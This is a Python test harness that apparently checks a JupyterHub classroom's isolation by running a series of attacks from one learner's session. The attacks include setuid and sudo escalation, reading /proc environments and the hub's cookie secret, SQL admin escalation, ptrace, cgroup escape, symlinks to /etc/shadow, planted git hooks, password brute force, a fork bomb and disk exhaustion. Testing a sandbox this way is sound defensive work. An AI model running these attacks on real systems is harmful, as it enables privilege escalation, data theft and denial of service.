"""What a learner of a class could try against another learner, the class and the machine. None of it may succeed.

`class_trial.py` has a learner's cell start this program, in the learner's room, once for each attack: its name is the
first argument, what there is to attack the second, as JSON. It prints what came of it, as JSON. What can only be seen
from outside, such as whether the other learner's file is still the same, `class_trial.py` looks at itself.
"""

import contextlib
import ctypes
import json
import os
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)


class Succeeded(Exception):
    """An attack that got what it wanted."""


def tried(action, *arguments):
    """Does what must not be possible."""
    try:
        got = action(*arguments)
    except (OSError, sqlite3.Error, subprocess.SubprocessError):
        return
    raise Succeeded(f"{arguments} {got!r:.100}")


def read(path):
    with Path(path).open("rb") as file:
        return file.read(64)


def append(path):
    with Path(path).open("ab") as file:
        return file.write(b"planted")


def replace(path):
    """Puts another file in the place of one."""
    Path(f"{path}.planted").write_text("planted")
    Path(f"{path}.planted").rename(path)
    return path


def run(*command):
    return subprocess.run(command, capture_output=True, text=True, timeout=60, check=True).stdout


def tried_in_a_namespace(command, *options):
    """Does what must not be possible to who is root in namespaces of one's own, either."""
    with contextlib.suppress(FileNotFoundError):
        tried(run, "unshare", "--user", "--map-root-user", "--mount", *options, "sh", "-c", command)


def others(at):
    """The numbers of another's processes, by which none of the attacker's own is known in the room."""
    return [process for process in at["processes"] if not Path(f"/proc/{process}").exists()]


def be_root(_):
    """Is root, or becomes root by a program that may."""
    if 0 in os.getresuid() or os.getgroups():
        raise Succeeded(f"{os.getresuid()} {os.getgroups()}")
    tried(os.setuid, 0)
    mine = Path.home() / "sh"
    shutil.copy("/bin/sh", mine)
    mine.chmod(0o4755)
    tried(os.chown, mine, 0, 0)
    for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "none", "/tmp"]):
        with contextlib.suppress(FileNotFoundError):
            tried(run, *command)
    capabilities = next(line for line in Path("/proc/self/status").read_text().splitlines() if "CapEff" in line)
    if int(capabilities.split()[1], 16):
        raise Succeeded(capabilities)


def read_the_hubs_environment(at):
    """Finds the code of the class in the environment or the memory of some process."""
    for process in {*Path("/proc").glob("[0-9]*")} - {Path(f"/proc/{os.getpid()}")}:
        for name in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                if at["code"].encode() in (process / name).read_bytes():
                    raise Succeeded(f"{process / name}")
    for process in others(at):
        tried(read, f"/proc/{process}/environ")


def read_secrets(at):
    """Reads the cookie secret, the hub's database, its log, or anything of the hub's."""
    hub = Path(at["class"]) / "hub"
    for name in ("cookie_secret", "jupyterhub.sqlite", "ports.json", "code", "lock", "proxy.pid"):
        tried(read, hub / name)
    tried(read, Path(at["class"]) / "jupyterhub.log")
    tried(os.listdir, hub / "kernels")


def become_admin_in_the_database(at):
    def update():
        with sqlite3.connect(Path(at["class"]) / "hub/jupyterhub.sqlite") as database:
            return database.execute("UPDATE users SET admin = 1").rowcount

    tried(update)


def touch_anothers_files(at):
    """Reads, changes, replaces or links another's files."""
    other = Path(at["class"]) / at["other"]
    tried(os.listdir, other)
    tried(read, other / "start_here.ipynb")
    tried(append, other / "start_here.ipynb")
    tried(replace, other / "start_here.ipynb")
    tried(os.mkdir, other / "planted")
    tried(os.chmod, other, 0o777)
    tried(os.link, other / "start_here.ipynb", Path.home() / "linked")
    known = {Path.home().name, "support", "hub"}
    if seen := [entry.name for entry in Path(at["class"]).iterdir() if entry.name not in known]:
        raise Succeeded(f"sees {seen}")


def kill_anothers_kernel(at):
    for process in others(at):
        tried(os.kill, process, 0)
    # Whatever can be reached at all.
    for process in range(2, 60_000):
        with contextlib.suppress(ProcessLookupError, FileNotFoundError):
            os.kill(process, 0)
            if Path(f"/proc/{process}").stat().st_uid != os.getuid():
                raise Succeeded(f"reaches {process}")
    os.kill(-1, signal.SIGCONT)


def leave_the_control_group(_):
    """Enters another group, makes one, or gives its own other limits."""
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        for name in ("cgroup.procs", "tasks"):
            if name in files:
                tried(Path(folder, name).write_text, "0")
        for name in ("memory.max", "memory.limit_in_bytes", "pids.max", "cpu.max", "cpu.cfs_quota_us", "release_agent"):
            if name in files:
                tried(Path(folder, name).write_text, "-1")
    for tree in ("", "memory", "pids", "unified"):
        if Path("/sys/fs/cgroup", tree).is_dir():
            tried(os.mkdir, f"/sys/fs/cgroup/{tree}/planted")
    tried_in_a_namespace("echo 0 > /sys/fs/cgroup/memory/tasks", "--cgroup")


class NoRedirect(urllib.request.HTTPRedirectHandler):
    """Leaves an answer what it is."""

    def redirect_request(self, *_):
        return None


def ask(address, data=None, method=None, token=None, cookies=""):
    """An answer's status, headers and text."""
    headers = {"Authorization": f"token {token}"} if token else {"Cookie": cookies}
    body = None if data is None else data.encode()
    request = urllib.request.Request(address, body, headers, method=method)
    try:
        with urllib.request.build_opener(NoRedirect).open(request, timeout=30) as answer:
            return answer.status, answer.headers, answer.read().decode(errors="replace")
    except urllib.error.HTTPError as answer:
        return answer.code, answer.headers, answer.read().decode(errors="replace")


def log_in(hub, name, password):
    """Tries to log in; the answer's status, and what the page says."""
    _, headers, _ = ask(f"{hub}login")
    cookies = "; ".join(cookie.split(";")[0] for cookie in headers.get_all("Set-Cookie"))
    token = next(cookie.removeprefix("_xsrf=") for cookie in cookies.split("; ") if cookie.startswith("_xsrf="))
    told = urllib.parse.urlencode({"username": name, "password": password, "_xsrf": token})
    status, _, text = ask(f"{hub}login", told, cookies=cookies)
    return status, text


def log_in_as_another(at):
    """Logs in under another's name with all passwords that everybody knows, and as the teacher."""
    mine = os.environ["JUPYTERHUB_USER"]
    status, text = log_in(at["hub"], mine, at["mine"])
    assert status == 302, f"who knows the password does not get in: {status} {text}"
    for name, password in [
        (at["other"], at["code"]),
        (at["other"], at["mine"]),
        ("teacher", at["mine"]),
        ("teacher", ""),
    ]:
        status, _ = log_in(at["hub"], name, password)
        if status != 403:
            raise Succeeded(f"{name} by {password!r}: {status}")


def guess_passwords(at):
    """60 wrong passwords, as fast as they can be sent. At most 5 may be looked at."""
    began, looked_at = time.monotonic(), 0
    for number in range(60):
        status, text = log_in(at["hub"], at["third"], f"wrong-{number}")
        if status != 403:
            raise Succeeded(f"{status}")
        looked_at += "Too many wrong attempts" not in text
    if looked_at > 5:
        raise Succeeded(f"{looked_at} passwords were looked at in {time.monotonic() - began:.0f} s")
    return f"{looked_at} of 60 were looked at"


def use_the_api(at):
    """Uses the hub's own interface, by the token of the attacker's server."""
    token, api = os.environ["JUPYTERHUB_API_TOKEN"], f"{at['hub']}api/"
    mine, other = os.environ["JUPYTERHUB_USER"], at["other"]
    for method, path, data in [
        ("GET", "users", None),
        ("PATCH", f"users/{mine}", '{"admin": true}'),
        ("POST", f"users/{other}/tokens", "{}"),
        ("POST", f"users/{other}/server", "{}"),
        ("DELETE", f"users/{other}/server", None),
        ("DELETE", f"users/{other}", None),
        ("GET", f"users/{other}", None),
        ("GET", "proxy", None),
        ("POST", "shutdown", "{}"),
        ("POST", "users/teacher/tokens", "{}"),
    ]:
        status, _, text = ask(api + path, data, method, token)
        # An answer to who may see nothing is an empty list.
        if status < 400 and text.strip() not in ("[]",) and f'"name": "{mine}"' not in text:
            raise Succeeded(f"{method} {path}: {status} {text[:100]}")
        if status < 400 and '"admin": true' in text:
            raise Succeeded(f"{method} {path}: {text[:100]}")
    status, _, text = ask(f"{api}user", token=token)
    assert status == 200, f"the token is none: {status} {text}"


def look_at_processes(at):
    """Sees processes of others, or what they do."""
    seen = {entry.name: entry.stat().st_uid for entry in Path("/proc").glob("[0-9]*") if entry.exists()}
    if foreign := {process for process, user in seen.items() if user != os.getuid() and process != "1"}:
        raise Succeeded(f"{foreign}")
    for process in others(at):
        tried(os.stat, f"/proc/{process}")
    tried(os.listdir, "/proc/1/fd")
    tried(os.stat, "/proc/1/root/root")


def trace(at):
    """Traces the first process of the room, which has a socket of the network outside, and those of others."""
    attach, pidfd_open, pidfd_getfd = 16, 434, 438
    for process in [1, *others(at)]:
        if libc.ptrace(attach, process, None, None) == 0:
            raise Succeeded(f"traces {process}")
    handle = libc.syscall(pidfd_open, 1, 0)
    for number in range(3, 30):
        if handle >= 0 and libc.syscall(pidfd_getfd, handle, number, 0) >= 0:
            raise Succeeded(f"took {number} of the keeper")
    tried(read, "/proc/1/mem")


def plant_in_shared_folders(at):
    """Leaves files where others may find them."""
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        with contextlib.suppress(OSError):
            Path(folder, "planted").write_text("planted")
    for folder in ("/run", "/run/lock", "/var/lock", "/var/crash", "/srv", "/mnt", "/opt", "/home", "/etc", "/"):
        if Path(folder).is_dir():
            tried(append, Path(folder, "planted"))
    # Other disks, and whatever else every account of the machine may write into.
    mine = (str(Path.home()), f"{at['state']}/kernels", "/tmp", "/var/tmp", "/dev", "/proc")
    places = [line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    folders = [entry.path for place in places for entry in listed(place) if entry.is_dir(follow_symlinks=False)]
    for folder in places + folders:
        if Path(folder).is_dir() and not folder.startswith(mine):
            tried(append, Path(folder, "planted"))


def listed(folder):
    """What is in a folder, as far as one may look."""
    try:
        return list(os.scandir(folder))
    except OSError:
        return []


def plant_code(at):
    """Changes what everybody's kernels run: prepared libraries, programs, settings, modules, toolchains, sources."""
    root, state = Path(at["root"]), Path(at["state"])
    cargo, rustup = Path(os.environ["CARGO_HOME"]), Path(os.environ["RUSTUP_HOME"])
    targets = [state / "bin/lab", state / "jupyter/data/kernels/async-lab/kernel.json", root / "support/src/lib.rs"]
    targets += [root / "Cargo.toml", root / "support/lab/assets/jupyter/async_lab_provisioner.py"]
    prepared = next(folder for folder in (state / "prepared").iterdir() if folder.is_dir())
    for folder in (prepared, state / "cargo-homes", state / "kernel-config", cargo / "bin", rustup / "toolchains"):
        targets += [path for path in sorted(folder.rglob("*")) if path.is_file()][:200]
    targets += sorted(cargo.glob("registry/src/*/*/src/lib.rs"))[:20]
    targets += sorted(Path(sys.prefix).rglob("*.py"))[:50]
    for target in targets:
        tried(append, target)
        tried(replace, target)
        tried(os.chmod, target, 0o777)
        tried(os.link, target, Path.home() / "linked")
    for folder in {target.parent for target in targets}:
        tried(append, folder / "planted")
        tried(os.rename, folder, f"{folder}.away")
    # Read-only for a namespace of one's own, too, and what was covered stays covered.
    for what in (f"mount -o remount,rw,bind {prepared}", f"umount {root}", f"umount {at['class']}", "umount -R /dev"):
        tried_in_a_namespace(f"{what} && touch {prepared}/planted")
    return f"{len(targets)} files"


def connect(port, host="127.0.0.1"):
    with socket.create_connection((host, port), timeout=5):
        return port


def reach_ports(at):
    """Reaches a kernel of another's, another's server, the proxy's controls, or anything outside."""
    assert connect(at["hub_port"]), "the room has no door to the hub"
    # A port of the attacker's own may have the same number.
    own = set()
    for link in Path("/proc").glob("[0-9]*/fd/*"):
        with contextlib.suppress(OSError):
            own.add(str(link.readlink()).removeprefix("socket:[").removesuffix("]"))
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    for port in {*at["ports"]} - {int(row[1].split(":")[1], 16) for row in rows if row[9] in own}:
        tried(connect, port)
    for host in at["addresses"]:
        for port in [*at["ports"], at["hub_port"], 22]:
            tried(connect, port, host)
    seen = Path("/proc/net/unix").read_text()
    if "@" in "".join(line.split()[-1] for line in seen.splitlines()[1:] if len(line.split()) > 7):
        raise Succeeded("sees sockets of others")


def read_keys(at):
    """Reads the key of another's kernel, or of one that waits for its notebook."""
    for folder in (
        f"{at['class']}/{at['other']}/.jupyter/runtime",
        f"{at['state']}/jupyter/runtime",
        f"{at['class']}/hub/kernels",
    ):
        tried(os.listdir, folder)
    for file in at["keys"]:
        tried(read, file)


def lay_links(at):
    """Puts links to what others own into the own folder, for the teacher to follow; pipes, and hooks of git's."""
    home = Path.home()
    for name, target in {
        "secret.ipynb": f"{at['class']}/hub/cookie_secret",
        "hers.ipynb": f"{at['class']}/{at['other']}/start_here.ipynb",
        "shadow.txt": "/etc/shadow",
        "handed-out.ipynb": f"{at['class']}/{at['other']}/planted.ipynb",
        "everything": "/",
    }.items():
        link = home / name
        link.unlink(missing_ok=True)
        link.symlink_to(target)
    with contextlib.suppress(FileExistsError):
        os.mkfifo(home / "pipe.ipynb")
    hooks = home / ".git/hooks"
    hooks.mkdir(parents=True, exist_ok=True)
    for name in ("post-checkout", "pre-commit", "post-index-change", "fsmonitor-watchman"):
        (hooks / name).write_text("#!/bin/sh\ntouch /tmp/planted-by-git\n")
        (hooks / name).chmod(0o755)
    (home / ".git/config").write_text(f"[core]\n\tfsmonitor = {hooks}/fsmonitor-watchman\n")
    tried(append, Path(at["root"]) / ".git/hooks/pre-commit")
    tried(read, Path(at["root"]) / ".git/config")
    return "seen from outside"


def reach_the_log(at):
    """Has something open to write into that is the class's: its terminal, its log, its database."""
    mine = (str(Path.home()), f"{at['state']}/kernels/", "/dev/null", "/dev/pts/", "/dev/ptmx", "/tmp/", "/dev/shm/")
    for link in Path("/proc").glob("[0-9]*/fd/*"):
        with contextlib.suppress(OSError):
            target = str(link.readlink())
            flags = link.parents[1].joinpath("fdinfo", link.name).read_text().partition("flags:")[2].split()[0]
            is_written = int(flags, 8) & os.O_ACCMODE != os.O_RDONLY
            if is_written and target.startswith("/") and not target.startswith((*mine, "/memfd:")):
                raise Succeeded(f"{link} is {target}")


def exhaust_processes(at):
    """A fork bomb: there is an end to it, and it is this room's."""
    began, children = time.monotonic(), []
    try:
        while len(children) < 4 * at["most_processes"] and time.monotonic() < began + 60:
            child = os.fork()
            if child == 0:
                while True:
                    time.sleep(0.5)
            children.append(child)
    except OSError:
        # It stays for a while, so that others can notice it.
        time.sleep(10)
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
        for child in children:
            os.waitpid(child, 0)
    if len(children) > at["most_processes"]:
        raise Succeeded(f"{len(children)} processes")
    return f"no more than {len(children)} processes"


def exhaust_memory_by_files(at):
    """Fills `/tmp` and `/dev/shm`, which are memory."""
    written = 0
    for folder in ("/tmp", "/dev/shm"):
        file = Path(folder, "filled")
        try:
            with file.open("wb") as filled:
                for _ in range(at["limit"] // 10_000_000):
                    written += filled.write(bytes(10_000_000))
        except OSError:
            pass
        finally:
            file.unlink()
    if written > at["limit"]:
        raise Succeeded(f"{written} bytes")
    return f"{written // 1_000_000} MB"


def fill_the_disk(at):
    """Takes as much of the disk as there is. The server is stopped upon it, from outside."""
    taken = 0
    for number in range(1000):
        with Path.home().joinpath(f"filled-{number}").open("wb") as file:
            size = at["disk"] // 5
            try:
                os.posix_fallocate(file.fileno(), 0, size)
            except OSError:
                break
            taken += size
        if taken > 2 * at["disk"]:
            break
        time.sleep(0.3)
    time.sleep(90)
    raise Succeeded(f"{taken} bytes, and goes on")


ATTACKS = {
    function.__name__: function
    for function in [
        be_root,
        read_the_hubs_environment,
        read_secrets,
        become_admin_in_the_database,
        touch_anothers_files,
        kill_anothers_kernel,
        leave_the_control_group,
        log_in_as_another,
        guess_passwords,
        use_the_api,
        look_at_processes,
        trace,
        plant_in_shared_folders,
        plant_code,
        reach_ports,
        read_keys,
        lay_links,
        reach_the_log,
        exhaust_memory_by_files,
        exhaust_processes,
        fill_the_disk,
    ]
}


def main():
    attack, at = ATTACKS[sys.argv[1]], json.loads(sys.argv[2])
    try:
        outcome = {"succeeded": False, "said": attack(at) or "refused"}
    except Succeeded as success:
        outcome = {"succeeded": True, "said": str(success)}
    print("\noutcome:" + json.dumps(outcome))


if __name__ == "__main__":
    main()
